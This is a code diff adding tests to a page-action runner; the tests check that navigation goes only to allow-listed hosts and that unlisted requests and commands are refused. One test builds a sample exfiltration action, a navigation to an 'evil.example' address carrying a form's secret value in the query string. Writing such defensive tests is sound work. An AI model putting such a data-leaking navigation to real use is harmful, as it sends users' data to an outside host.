@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { openForm } from '../render/form-session.ts';
 import type { Services } from '../render/services.ts';
 import { resolveDocument } from '../resolve/resolve-document.ts';
+import { noActs } from '../schema/acts/acts.ts';
 import { type Action, type ActionName, actionShapes } from '../schema/documents/action.ts';
 import { kindWidgets, testNode, when } from '../schema/test-fields.ts';
 import { type ActionPlace, runActions } from './run-actions.ts';
@@ -36,11 +37,13 @@ function pageOf({ confirms = true, values = { a: 'x', n: 5 }, fails = [], requir
       return confirms;
     },
     toast: (kind: string, text: string) => note('toast', kind, text),
+    isListed: (address: string) => !address.includes('evil'),
     navigate: (to: string, target?: string) => note('navigate', to, target),
   } as unknown as Services; // actions ask for no more than these
   const place: ActionPlace = {
     session,
     services,
+    acting: 'shipped',
     scope: { row: { id: 7, state: 'open' }, user: { name: '王' } },
     openDialog: (id, scope) => note('openDialog', id, scope),
     closeDialog: () => note('closeDialog'),
@@ -306,5 +309,41 @@ describe('values that actions set', () => {
     const { session, run } = pageOf();
     await run({ action: 'setValue', field: 'a', value: 'y' }, { action: 'reset' });
     expect(session.values()).toEqual({ a: 'x', n: 5 });
+  });
+});
+
+it('a page leads by itself nowhere but to where an administrator lets it', async () => {
+  const { done, run } = pageOf({ values: { a: 'geheim' } });
+  expect(await run({ action: 'navigate', to: 'https://evil.example/?{values.a}', target: '_blank' }, after)).toBe(
+    false,
+  );
+  expect(done).toEqual([['toast', 'error', '<action.hostNotListed>']]);
+});
+
+describe('what a version is stored with', () => {
+  const acts = { ...noActs, calls: { weather: [], recordList: ['m1'] }, commands: ['copy'] };
+  const steps: [Action, boolean][] = [
+    [{ action: 'request', call: 'weather' }, true],
+    [{ action: 'request', call: 'resetPassword', params: { id: 'u' } }, false],
+    [{ action: 'request', call: 'recordList', params: { id: 'm1' } }, true],
+    [{ action: 'request', call: 'recordList', params: { id: '{row.id}' } }, false],
+    [{ action: 'command', name: 'copy' }, true],
+    [{ action: 'command', name: 'signIn' }, false],
+    [{ action: 'command', name: 'download', with: { call: 'exportModels' } }, false],
+    [{ action: 'download', call: 'exportModel' }, false],
+  ];
+
+  it.each(steps)('decides whether %o runs; what is refused is said, and ends the steps', async (step, runs) => {
+    const { place, done } = pageOf();
+    expect(await runActions([step, after], { ...place, acting: acts })).toBe(runs);
+    expect(done.at(-1)).toEqual(runs ? ['toast', 'success', '然后'] : ['toast', 'error', '<action.off>']);
+    if (!runs) expect(done).toHaveLength(1);
+  });
+
+  it('leads to the steps for a failure where a step has some', async () => {
+    const { place, done } = pageOf();
+    const step: Action = { action: 'request', call: 'resetPassword', onError: [toast('{failure.message}')] };
+    expect(await runActions([step], { ...place, acting: acts })).toBe(false);
+    expect(done).toEqual([['toast', 'success', '<action.off>']]);
   });
 });
